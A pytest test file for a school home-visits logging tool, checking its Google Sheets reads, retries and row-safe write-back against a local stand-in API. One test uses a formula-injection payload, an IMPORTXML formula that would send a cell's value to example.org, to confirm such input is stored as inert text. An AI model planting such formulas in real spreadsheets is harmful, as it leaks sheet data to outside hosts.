"""The Google Sheet source through the real gspread client, against the loopback Sheets API stand-in."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import sys
from pathlib import Path

import pytest
from gspread.exceptions import APIError

sys.path.insert(0, str(Path(__file__).parent))
from homevisits.cells import parse_text
from homevisits.config import from_mapping
from homevisits.errors import HomevisitsError
from homevisits.findings_tab import FINDINGS_TAB
from homevisits.pipeline import load
from homevisits.sheet import LayoutChanged
from homevisits.sources import open_source
from homevisits.sources.gsheet import GoogleSheet, spreadsheet_key
from homevisits.sources.http import (
    ALWAYS,
    NEVER,
    REFUSED_ONLY,
    RetryPolicy,
    check_loopback,
    retry_mode,
)
from homevisits.sources.writeback import CellUpdate
from homevisits.visit_ids import assign_ids
from sheets_standin import SheetsStandIn, column_letters
from workbooks import ALL_HEADERS, NOW, found, visit, write_workbook

KEY = "1HvLogExampleKey0123456789abcdefghijklmnopq"
TAB = "Home visits"
EMAIL = "homevisits@school-project.iam.gserviceaccount.com"
ID, LEARNER, SENT, ESCALATED = (
    ALL_HEADERS.index(h) for h in ("Visit ID", "Learner name", "Form sent at", "Escalated at")
)


@pytest.fixture
def api():
    with SheetsStandIn() as server:
        yield server


@pytest.fixture
def key_file(api, tmp_path):
    return api.service_account_file(tmp_path)


class Clock:
    """A clock that moves only when the code under test sleeps: retries are checked without waiting."""

    def __init__(self) -> None:
        self.now = 0.0
        self.waits: list[float] = []

    def sleep(self, seconds: float) -> None:
        self.waits.append(seconds)
        self.now += seconds

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock():
    return Clock()


def grid_of(rows):
    return [ALL_HEADERS, *[[row.get(h) for h in ALL_HEADERS] for row in rows]]


def log_rows(count=6):
    return [visit(n + 2, "planned" if n % 2 else "done", visit_id=f"HV-{n + 1:04d}") for n in range(count)]


def connect(api, key_file, clock, worksheet=TAB, **settings):
    return GoogleSheet(
        KEY,
        worksheet,
        key_file,
        endpoint=api.url,
        sleep=clock.sleep,
        clock=clock,
        rng=lambda: 0.5,
        **settings,
    )


def column(api, index, tab=TAB):
    return [(cells[index] if index < len(cells) else "") for cells in api.values(KEY, tab)]


def by_id(api, tab=TAB):
    """Visit ID -> the row's cells, as the sheet holds them now."""
    return {cells[ID]: cells for cells in api.values(KEY, tab)[1:] if cells and cells[ID]}


# ---------------------------------------------------------------- read


def test_validate_reads_a_google_sheet_in_one_request_exactly_as_excel(api, key_file, tmp_path, monkeypatch):
    rows = [
        visit(2, "done"),
        visit(3, "planned", risk_level="HIGH"),
        visit(4, "planned", risk_level="medium", location_type="home"),
        visit(5, "done", visit_date="31/02/2026", start_time="2.30pm"),
        visit(6, "no_answer", expected_duration="1h30", parent_phone=1134960000),
        visit(7, "done", form_sent_at=dt.datetime(2026, 11, 10, 9, 15), arrived_at=dt.time(10, 5)),
        visit(8, "cancelled", visit_id=None, learner_id=12345),
    ]
    workbook = write_workbook(tmp_path / "log.xlsx", rows, columns=ALL_HEADERS, sheet=TAB)
    api.add_book(KEY, {TAB: grid_of(rows)})
    monkeypatch.setenv("HOMEVISITS_SHEETS_ENDPOINT", api.url)
    excel = load(
        from_mapping({"policy": "omg_education", "source": {"path": str(workbook)}}, tmp_path / "a.toml"), NOW
    )
    source = {
        "spreadsheet": f"https://docs.google.com/spreadsheets/d/{KEY}/edit#gid=0",
        "worksheet": TAB,
        "credentials": key_file.name,
    }
    google = load(from_mapping({"policy": "omg_education", "source": source}, tmp_path / "b.toml"), NOW)

    assert found(google.findings) == found(excel.findings)
    assert {f.rule for f in google.findings} >= {"HV002", "HV003"}
    assert google.visits.records() == excel.visits.records()
    assert google.visits.records()[5]["form_sent_at"] == dt.datetime(2026, 11, 10, 9, 15, tzinfo=NOW.tzinfo)
    assert api.api_requests() == 2  # the values, and the locale (a US-locale sheet swaps day and month)
    (request,) = [r for r in api.log if r.kind == "values.get"]
    assert request.query["valueRenderOption"] == ["UNFORMATTED_VALUE"]
    assert request.query["dateTimeRenderOption"] == ["SERIAL_NUMBER"]
    assert api.scopes == ["https://www.googleapis.com/auth/spreadsheets"]


def test_dates_and_times_arrive_as_serial_numbers_and_parse(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of([visit(2, "done", form_sent_at=dt.datetime(2026, 11, 13, 16, 45))])})
    raw = connect(api, key_file, clock).read()
    cells = raw.rows[1]
    assert cells[ALL_HEADERS.index("Visit date")] == (dt.date(2026, 11, 17) - dt.date(1899, 12, 30)).days
    assert cells[ALL_HEADERS.index("Start time")] == pytest.approx(10 / 24)
    assert cells[SENT] == pytest.approx(46339 + 16.75 / 24)


def test_a_worksheet_name_in_another_case_or_left_out_still_reads(api, key_file, clock):
    api.add_book(KEY, {"Notes": [["nothing"]], TAB: grid_of(log_rows(2))})
    sheet = connect(api, key_file, clock, worksheet="home VISITS")
    assert sheet.read().worksheet == TAB
    assert api.counts["values.get"] == 2 and api.counts["metadata"] == 1
    first = connect(api, key_file, clock, worksheet=None).read()
    assert first.worksheet == "Notes" and first.rows == [["nothing"]]


def test_a_missing_worksheet_lists_the_ones_there_are(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(1)), "Old visits": []})
    with pytest.raises(
        HomevisitsError, match=r"no worksheet called 'Visits 2026'; it has: Home visits, Old visits"
    ):
        connect(api, key_file, clock, worksheet="Visits 2026").read()


def test_worksheet_titles_with_quotes_and_signs_are_quoted_in_a1_ranges(api, key_file, clock):
    title = "Visits: O'Neil's team!"
    api.add_book(KEY, {title: grid_of(log_rows(2))})
    sheet = connect(api, key_file, clock, worksheet=title)
    assert sheet.read().rows[1][ID] == "HV-0001"
    sheet.write([CellUpdate("HV-0002", "form_sent_at", "sent")])
    assert by_id(api, title)["HV-0002"][SENT] == "sent"
    assert [r.query["ranges"][0] for r in api.log if r.kind == "values.batchGet"] == [
        "'Visits: O''Neil''s team!'!1:1"
    ]


# ---------------------------------------------------------------- access problems: one sentence each


def test_a_sheet_not_shared_with_the_service_account_names_its_email(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(1))}, editors={"someone-else@example.org"})
    with pytest.raises(HomevisitsError) as error:
        connect(api, key_file, clock).read()
    message = str(error.value)
    assert message.count(EMAIL) == 2 and "share the sheet with" in message
    assert error.value.exit_code == 2 and "\n" not in message
    assert clock.waits == []  # a 403 is not retried


def test_a_wrong_key_says_so(api, key_file, clock):
    with pytest.raises(HomevisitsError, match=f"There is no Google Sheet with the key {KEY}: check"):
        connect(api, key_file, clock).read()


def test_key_file_problems_are_one_sentence(api, tmp_path, clock, monkeypatch):
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
    api.add_book(KEY, {TAB: grid_of(log_rows(1))})
    cases = {
        None: "No Google service-account key is set",
        tmp_path / "missing.json": "does not exist",
        tmp_path: "does not exist",
    }
    (tmp_path / "broken.json").write_text("{not json", encoding="utf-8")
    cases[tmp_path / "broken.json"] = "is not a JSON key file"
    (tmp_path / "user.json").write_text(json.dumps({"type": "authorized_user"}), encoding="utf-8")
    cases[tmp_path / "user.json"] = "is not a service-account key (it is a 'authorized_user' file)"
    (tmp_path / "half.json").write_text(json.dumps({"type": "service_account"}), encoding="utf-8")
    cases[tmp_path / "half.json"] = "is damaged or incomplete"
    for path, words in cases.items():
        with pytest.raises(HomevisitsError, match=re.escape(words)):
            GoogleSheet(KEY, TAB, path, endpoint=api.url).read()
    if os.geteuid() != 0:  # root reads anything
        locked = api.service_account_file(tmp_path)
        locked.chmod(0)
        with pytest.raises(HomevisitsError, match="Could not read the Google service-account key file"):
            GoogleSheet(KEY, TAB, locked, endpoint=api.url).read()


def test_the_key_file_can_come_from_the_environment(api, key_file, clock, monkeypatch):
    api.add_book(KEY, {TAB: grid_of(log_rows(1))})
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key_file))
    assert connect(api, None, clock).read().rows[1][ID] == "HV-0001"


def test_a_deleted_key_is_explained(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(1))})
    api._keys.clear()  # Google no longer knows the key
    with pytest.raises(
        HomevisitsError, match=r"Google refused the service-account key .*create a new JSON key"
    ):
        connect(api, key_file, clock).read()


def test_spreadsheet_urls_and_keys():
    assert spreadsheet_key(f"https://docs.google.com/spreadsheets/d/{KEY}/edit#gid=123") == KEY
    assert spreadsheet_key(f"  {KEY} ") == KEY
    with pytest.raises(HomevisitsError, match="is not a Google Sheet URL or key"):
        spreadsheet_key("home visits.xlsx")
    with pytest.raises(HomevisitsError, match="loopback"):
        check_loopback("http://10.1.2.3:8080")
    assert check_loopback("http://127.0.0.1:9") == "http://127.0.0.1:9"


# ---------------------------------------------------------------- resilience


def test_throttling_is_retried_with_growing_bounded_waits(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(2))})
    api.fail(429, times=3, kind="values.get")
    raw = connect(api, key_file, clock).read()
    assert raw.rows[2][ID] == "HV-0002"
    assert api.counts["values.get"] == 4
    assert clock.waits == [0.75, 1.5, 3.0]  # doubling, with the jitter the test fixed at the middle


def test_retries_stop_within_the_budget_with_a_clear_error(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(2))})
    api.fail(503, times=100, kind="values.get")
    policy = RetryPolicy(attempts=20, first_wait=1.0, max_wait=8.0, budget=30.0)
    with pytest.raises(HomevisitsError, match=r"did not answer \(503 service unavailable\) after \d+ tries"):
        connect(api, key_file, clock, retry=policy).read()
    assert sum(clock.waits) <= 30.0
    assert max(clock.waits) <= 8.0
    assert api.counts["values.get"] == len(clock.waits) + 1 < 20


def test_retry_after_is_honoured_up_to_the_cap(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(1))})
    api.fail(429, kind="values.get", retry_after=7)
    connect(api, key_file, clock).read()
    assert clock.waits == [7.0]


def test_an_append_is_never_retried(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(1))})
    http = connect(api, key_file, clock).http
    api.fail(503, kind="values.append")
    with pytest.raises(APIError):
        http.values_append(KEY, f"'{TAB}'!A1", params={"valueInputOption": "RAW"}, body={"values": [["x"]]})
    api.fail(429, kind="values.append")
    with pytest.raises(APIError):
        http.values_append(KEY, f"'{TAB}'!A1", params={"valueInputOption": "RAW"}, body={"values": [["x"]]})
    assert api.counts["values.append"] == 2 and clock.waits == []


def test_which_requests_may_be_retried():
    base = "https://sheets.googleapis.com/v4/spreadsheets/k"
    assert retry_mode("GET", f"{base}/values/A1", None) == ALWAYS
    assert retry_mode("POST", f"{base}/values/A1:append", None) == NEVER
    assert retry_mode("POST", f"{base}/values:batchUpdate", {"data": []}) == REFUSED_ONLY
    assert retry_mode("POST", f"{base}:batchUpdate", {"requests": [{"updateCells": {}}]}) == ALWAYS
    assert (
        retry_mode("POST", f"{base}:batchUpdate", {"requests": [{"addSheet": {}}, {"updateCells": {}}]})
        == REFUSED_ONLY
    )


# ---------------------------------------------------------------- write back


def test_rows_inserted_and_sorted_between_read_and_write_still_get_their_own_values(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(6))})
    sheet = connect(api, key_file, clock)
    sheet.read()
    before = by_id(api)
    # Staff insert two visits near the top and sort the log by learner name, Z to A.
    api.insert_rows(KEY, TAB, 3, grid_of([visit(90, visit_id="HV-0090"), visit(91, visit_id=None)])[1:])
    api.sort_rows(KEY, TAB, 2, by=lambda cells: str(cells[LEARNER]), reverse=True)
    sent = dt.datetime(2026, 11, 23, 9, 5, tzinfo=dt.UTC)
    updates = [CellUpdate(f"HV-000{n}", "form_sent_at", sent) for n in (1, 3, 5)]
    updates.append(CellUpdate("HV-0002", "escalated_at", dt.datetime(2026, 11, 23, 12, 40, tzinfo=dt.UTC)))
    api.reset_counts()
    result = sheet.write(updates)

    assert result.skipped == []
    now = by_id(api)
    for n in (1, 3, 5):
        assert now[f"HV-000{n}"][SENT] == "23/11/2026 09:05"
    assert now["HV-0002"][ESCALATED] == "23/11/2026 12:40"
    for visit_id, cells in now.items():  # nothing else changed, on any row
        expected = list(before.get(visit_id, cells))
        if visit_id in ("HV-0001", "HV-0003", "HV-0005"):
            expected[SENT] = "23/11/2026 09:05"
        if visit_id == "HV-0002":
            expected += [""] * (ESCALATED + 1 - len(expected))
            expected[ESCALATED] = "23/11/2026 12:40"
        assert cells == expected, visit_id
    assert api.sheets_counts() == {"values.batchGet": 1, "values.batchUpdate": 1}
    (write,) = [r for r in api.log if r.kind == "values.batchUpdate"]
    assert write.body["valueInputOption"] == "RAW"
    assert len(write.body["data"]) == 4


def test_a_sort_just_before_the_id_re_read_is_followed(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(4))})
    sheet = connect(api, key_file, clock)
    sheet.read()
    api.before(
        "values.batchGet", lambda server: server.sort_rows(KEY, TAB, 2, by=lambda c: str(c[ID]), reverse=True)
    )
    sheet.write([CellUpdate("HV-0004", "escalated_at", "alerted")])
    assert column(api, ID)[1] == "HV-0004"
    assert by_id(api)["HV-0004"][ESCALATED] == "alerted"


def test_a_row_that_is_gone_or_duplicated_is_reported_and_not_written(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(4))})
    sheet = connect(api, key_file, clock)
    sheet.read()
    api.delete_rows(KEY, TAB, 3)  # HV-0002
    api.put_rows(KEY, TAB, [["HV-0001"]], start=4)  # HV-0004's row (row 4 now) says HV-0001 too
    result = sheet.write([CellUpdate(v, "form_sent_at", "sent") for v in ("HV-0001", "HV-0002", "HV-0003")])
    assert [p.update.visit_id for p in result.written] == ["HV-0003"]
    assert [s.reason for s in result.skipped] == [
        "Visit ID HV-0001 is in 2 rows (2, 4): give each visit its own ID",
        "no row has Visit ID HV-0002 any more",
    ]
    assert column(api, SENT).count("sent") == 1


def test_new_visit_ids_go_only_into_rows_unchanged_since_the_read(api, key_file, clock):
    rows = log_rows(2) + [visit(n, "planned", visit_id=None, learner_name=f"New {n}") for n in (4, 5, 6)]
    api.add_book(KEY, {TAB: grid_of(rows)})
    sheet = connect(api, key_file, clock)
    raw = sheet.read()
    blank = [raw.first_row + i for i, cells in enumerate(raw.rows) if i and cells[ID] == ""]
    assert blank == [4, 5, 6]
    updates = assign_ids(blank, [cells[ID] for cells in raw.rows[1:]])
    assert [u.value for u in updates] == ["HV-0003", "HV-0004", "HV-0005"]
    api.put_rows(KEY, TAB, [["", "New 5 (edited)"]], start=5)  # someone edits row 5 meanwhile
    result = sheet.write([*updates, CellUpdate("HV-0003", "form_sent_at", "sent")])
    ids = column(api, ID)
    assert ids[3] == "HV-0003" and ids[4] == "" and ids[5] == "HV-0005"
    assert by_id(api)["HV-0003"][SENT] == "sent"
    assert [s.update.value for s in result.skipped] == ["HV-0004"]
    assert "changed or moved since the sheet was read" in result.skipped[0].reason


def test_moved_columns_stop_the_write(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(2))})
    sheet = connect(api, key_file, clock)
    sheet.read()
    header = list(ALL_HEADERS)
    header[SENT], header[ESCALATED] = header[ESCALATED], header[SENT]
    api.put_rows(KEY, TAB, [header])
    api.reset_counts()
    # issue 13: a column moved since the read fails loud (one sentence), it is no longer a quiet skip
    with pytest.raises(LayoutChanged, match="columns were moved or renamed") as stopped:
        sheet.write([CellUpdate("HV-0001", "form_sent_at", "sent")])
    assert "'Form sent at' is now column" in str(stopped.value) and "\n" not in str(stopped.value)
    assert "values.batchUpdate" not in api.counts
    assert "sent" not in column(api, SENT) and "sent" not in column(api, ESCALATED)


def test_formula_looking_values_are_stored_as_text_and_read_back(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(2))})
    sheet = connect(api, key_file, clock)
    sheet.read()
    nasty = '=IMPORTXML("http://example.org/?"&B2, "//a")'
    sheet.write(
        [CellUpdate("HV-0002", "escalated_at", nasty), CellUpdate("HV-0001", "escalated_at", "@SUM(1)")]
    )
    letter = column_letters(ESCALATED)
    stored = api.cell(KEY, TAB, f"{letter}3")
    assert stored.formula is None and stored.value == "'" + nasty
    assert parse_text(sheet.read().rows[2][ESCALATED]) == (
        nasty,
        None,
    )  # parsing removes the marker again
    # The stand-in does tell the difference: the same text typed by a person would be a formula.
    typed = {"valueInputOption": "USER_ENTERED"}
    sheet.http.values_update(KEY, f"'{TAB}'!{letter}4", params=typed, body={"values": [[nasty]]})
    assert api.cell(KEY, TAB, f"{letter}4").formula == nasty


def test_an_ambiguous_write_failure_locates_the_rows_again_before_retrying(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(4))})
    sheet = connect(api, key_file, clock)
    sheet.read()
    api.fail(503, kind="values.batchUpdate", applied=True)  # Google did the write, the answer was lost
    api.before(
        "values.batchGet",
        lambda server: server.before(  # after the first re-read: a sort
            "values.batchGet", lambda s: s.sort_rows(KEY, TAB, 2, by=lambda c: str(c[ID]), reverse=True)
        ),
    )
    api.reset_counts()
    result = sheet.write(
        [CellUpdate("HV-0001", "form_sent_at", "sent"), CellUpdate("HV-0004", "escalated_at", "late")]
    )
    assert len(result.written) == 2
    assert api.sheets_counts() == {"values.batchGet": 2, "values.batchUpdate": 2}
    assert column(api, SENT).count("sent") == 1 and by_id(api)["HV-0001"][SENT] == "sent"
    assert column(api, ESCALATED).count("late") == 1 and by_id(api)["HV-0004"][ESCALATED] == "late"
    assert len(clock.waits) == 1


def test_a_write_that_keeps_failing_says_nothing_was_written(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(2))})
    sheet = connect(api, key_file, clock, retry=RetryPolicy(attempts=3))
    sheet.read()
    api.fail(500, times=10, kind="values.batchUpdate")
    with pytest.raises(
        HomevisitsError, match=r"\(500 internal error\) after 3 tries.* Nothing was written\."
    ):
        sheet.write([CellUpdate("HV-0001", "form_sent_at", "sent")])
    assert "sent" not in column(api, SENT)
    assert api.counts["values.batchUpdate"] == 3


def test_a_throttled_write_is_simply_sent_again(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(2))})
    sheet = connect(api, key_file, clock)
    sheet.read()
    api.fail(429, kind="values.batchUpdate")
    api.reset_counts()
    sheet.write([CellUpdate("HV-0002", "form_sent_at", "sent")])
    assert api.sheets_counts() == {"values.batchGet": 1, "values.batchUpdate": 2}
    assert by_id(api)["HV-0002"][SENT] == "sent"


def test_writing_without_a_read_first_reads_once(api, key_file, tmp_path, monkeypatch):
    api.add_book(KEY, {TAB: grid_of(log_rows(2))})
    monkeypatch.setenv("HOMEVISITS_SHEETS_ENDPOINT", api.url)
    source = open_source(
        {"spreadsheet": KEY, "worksheet": TAB, "credentials": key_file.name}, key_file.parent
    )
    source.write([CellUpdate("HV-0002", "form_sent_at", "sent")])
    assert api.sheets_counts() == {
        "values.get": 1,
        "metadata": 1,
        "values.batchGet": 1,
        "values.batchUpdate": 1,
    }


# ---------------------------------------------------------------- the "Policy check" tab


def test_findings_tab_is_created_then_fully_replaced(api, key_file, clock):
    api.add_book(KEY, {TAB: grid_of(log_rows(2))})
    log_before = api.values(KEY, TAB)
    sheet = connect(api, key_file, clock)
    header = ["Severity", "Row", "Visit ID", "What is wrong"]
    sheet.write_findings(
        header, [["ERROR", 2, "HV-0001", "=risky text"], ["WARNING", 3, "HV-0002", "b"], ["INFO", 4, "", "c"]]
    )
    assert api.values(KEY, FINDINGS_TAB) == [
        header,
        ["ERROR", 2, "HV-0001", "'=risky text"],
        ["WARNING", 3, "HV-0002", "b"],
        ["INFO", 4, "", "c"],
    ]
    tab = api.grid(KEY, FINDINGS_TAB)
    assert tab.frozen == 1 and tab.cells[(0, 0)].bold and not tab.cells[(1, 0)].bold
    sheet.write_findings(header, [["WARNING", 7, "HV-0002", "only this"]])
    assert api.values(KEY, FINDINGS_TAB) == [header, ["WARNING", 7, "HV-0002", "only this"]]
    assert api.sheets_counts() == {"metadata": 2, "batchUpdate": 2}
    assert api.values(KEY, TAB) == log_before


# ---------------------------------------------------------------- live


@pytest.mark.live
@pytest.mark.skipif(
    not (os.environ.get("HOMEVISITS_LIVE_SHEET") and os.environ.get("GOOGLE_APPLICATION_CREDENTIALS")),
    reason="set HOMEVISITS_LIVE_SHEET (a test sheet's URL) and GOOGLE_APPLICATION_CREDENTIALS to run against Google",
)
def test_live_sheet_validate_and_write_back(tmp_path):
    """A dedicated test sheet shared with the service account: set up, validated, written back."""
    from homevisits.findings_tab import findings_table

    url = os.environ["HOMEVISITS_LIVE_SHEET"]
    worksheet = os.environ.get("HOMEVISITS_LIVE_WORKSHEET", TAB)
    sheet = GoogleSheet(url, worksheet)
    sheet.init_sheet()  # adds only missing columns, at the end
    source = {"spreadsheet": url, "worksheet": worksheet}
    checked = load(
        from_mapping({"policy": "omg_education", "source": source}, tmp_path / "homevisits.toml"), NOW
    )
    ids = [v for v in checked.visits.frame["visit_id"] if v]
    if not ids:
        pytest.skip("the live sheet has no visit with a Visit ID to write back to")
    stamp = dt.datetime.now(dt.UTC).replace(second=0, microsecond=0)
    sheet.read()
    result = sheet.write([CellUpdate(str(ids[0]), "escalated_at", stamp)])
    assert result.skipped == [] and len(result.written) == 1
    placed = result.written[0]
    assert sheet.read().rows[placed.row - 1][placed.column] == stamp.astimezone(NOW.tzinfo).strftime(
        "%d/%m/%Y %H:%M"
    )
    sheet.write_findings(*findings_table(checked.findings, checked.now.isoformat()))


# ---------------------------------------------------------------- the command line


def test_validate_write_findings_puts_them_in_the_policy_check_tab(api, key_file, monkeypatch, capsys):
    from homevisits.cli import main

    rows = [
        visit(2, "done"),
        visit(3, "planned", risk_level="HIGH"),
        visit(4, "done", visit_date="31/02/2026"),
    ]
    api.add_book(KEY, {TAB: grid_of(rows)})
    config = key_file.parent / "homevisits.toml"
    config.write_text(
        f'policy = "omg_education"\n[source]\nspreadsheet = "https://docs.google.com/spreadsheets/d/{KEY}/edit"\n'
        f'worksheet = "{TAB}"\ncredentials = "{key_file.name}"\n',
        encoding="utf-8",
    )
    monkeypatch.setenv("HOMEVISITS_SHEETS_ENDPOINT", api.url)
    code = main(
        [
            "validate",
            "--config",
            str(config),
            "--format",
            "json",
            "--now",
            "2026-11-23T12:00",
            "--write-findings",
        ]
    )
    out, err = capsys.readouterr()
    report = json.loads(out)
    assert code == 1 and report["summary"]["error"] >= 2
    tab = api.values(KEY, FINDINGS_TAB)
    assert tab[0][:3] == ["Severity", "Row", "Visit ID"]
    assert [(r[4], r[1], r[2]) for r in tab[1:]] == [
        (f["rule"], f["row"], f["visit_id"])
        for f in sorted(
            report["findings"],
            key=lambda f: (
                ["alert", "error", "warning", "info"].index(f["severity"]),
                f["row"] or 0,
                f["rule"],
                f["column"] or "",
            ),
        )
    ]
    assert tab[1][-1] == "23/11/2026 12:00"
    assert f"Wrote {len(tab) - 1} finding(s) to the 'Policy check' tab." in err
    assert api.sheets_counts() == {"values.get": 1, "metadata": 2, "batchUpdate": 1}


def test_cli_errors_are_one_line_and_exit_2(api, key_file, monkeypatch, capsys):
    from homevisits.cli import main

    monkeypatch.setenv("HOMEVISITS_SHEETS_ENDPOINT", api.url)
    monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(key_file))
    code = main(
        ["validate", "--source", f"https://docs.google.com/spreadsheets/d/{KEY}/edit", "--worksheet", TAB]
    )
    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith("homevisits: There is no Google Sheet with the key") and err.count("\n") == 1


def test_no_answer_at_all_says_check_the_connection(api, key_file, clock):
    import socket

    with socket.socket() as spare:  # a loopback port nobody listens on
        spare.bind(("127.0.0.1", 0))
        closed = f"http://127.0.0.1:{spare.getsockname()[1]}"
    sheet = GoogleSheet(KEY, TAB, key_file, endpoint=closed, sleep=clock.sleep, clock=clock)
    with pytest.raises(
        HomevisitsError, match=r"Could not reach Google Sheets after 7 tries .*check the internet"
    ):
        sheet.read()
    assert len(clock.waits) == 6 and sum(clock.waits) <= RetryPolicy().budget


def test_a_column_inserted_between_read_and_write_back_stops_the_write_and_the_alert_still_goes(
    api, key_file, tmp_path, monkeypatch
):
    """Issue 13: write-back goes by the columns the run read. A column inserted meanwhile would put the
    time in the wrong column: nothing is written, one sentence says so, the alert is sent all the same,
    and the next run (reading the new layout) writes it where it now belongs."""
    import contextlib
    import io

    from homevisits import cli
    from jobs_fixtures import DOMAINS, DSL, SENDER, SMT, out_today, send_at_now, toml_value

    rows = [out_today(2, start=(9, 0), end=(10, 0))]  # due back at 10:00, nobody back by 12:00
    api.add_book(KEY, {TAB: grid_of(rows)})
    mail = {"transport": "outbox", "outbox": "outbox", "from": SENDER, "forms_to": [DSL], "smt": [SMT]}
    lines = ['policy = "omg_education"', 'school = "Test School"', "", "[source]"]
    lines += [
        f"spreadsheet = {toml_value(KEY)}",
        f'worksheet = "{TAB}"',
        f"credentials = {toml_value(key_file.name)}",
    ]
    lines += [
        "",
        "[mail]",
        *(f"{k} = {toml_value(v)}" for k, v in {**mail, "allowed_domains": DOMAINS}.items()),
    ]
    lines += ["", "[state]", 'ledger = "state/ledger.sqlite"']
    config = tmp_path / "homevisits.toml"
    config.write_text("\n".join(lines) + "\n", encoding="utf-8")
    monkeypatch.setenv("HOMEVISITS_SHEETS_ENDPOINT", api.url)

    def run(now):
        out, err = io.StringIO(), io.StringIO()
        with send_at_now(), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = cli.main(["run-scheduled", "--config", str(config), "--now", now.isoformat()])
        return code, out.getvalue(), err.getvalue()

    shifted = [["Who rang", *cells] for cells in api.values(KEY, TAB)]
    shifted[1][0] = "rang the school first"
    api.before("values.batchGet", lambda api: api.put_rows(KEY, TAB, shifted))  # someone inserts column A
    code, out, err = run(NOW)
    assert code == 0, err  # the job tolerates a failed write-back, as before: the ledger keeps it

    alerts = list((tmp_path / "outbox").glob("*.eml"))
    assert alerts and "V2" in out, (out, err)  # the alert went
    (sentence,) = [line for line in err.splitlines() if "the sheet was not updated" in line]
    assert sentence == (
        "homevisits: 1 message(s) went, but the sheet was not updated: The sheet's columns were moved or "
        "renamed since it was read ('Visit ID' is now column B, it was column A): nothing was written; the "
        "next run will try again."
    )
    assert "values.batchUpdate" not in api.counts
    assert [cells[1:] for cells in api.values(KEY, TAB)] == [cells[1:] for cells in shifted]  # untouched

    code, out, err = run(NOW + dt.timedelta(minutes=5))
    assert code == 0, err
    assert len(list((tmp_path / "outbox").glob("*.eml"))) == len(alerts), err  # nothing sent twice
    assert "the sheet was not updated" not in err
    header, *body = api.values(KEY, TAB)
    assert header[ESCALATED + 1] == "Escalated at" and body[0][0] == "rang the school first"
    assert body[0][ESCALATED + 1] not in ("", None)  # written where 'Escalated at' is now
    assert body[0][ESCALATED] == shifted[1][ESCALATED]  # the column it was read from is left alone
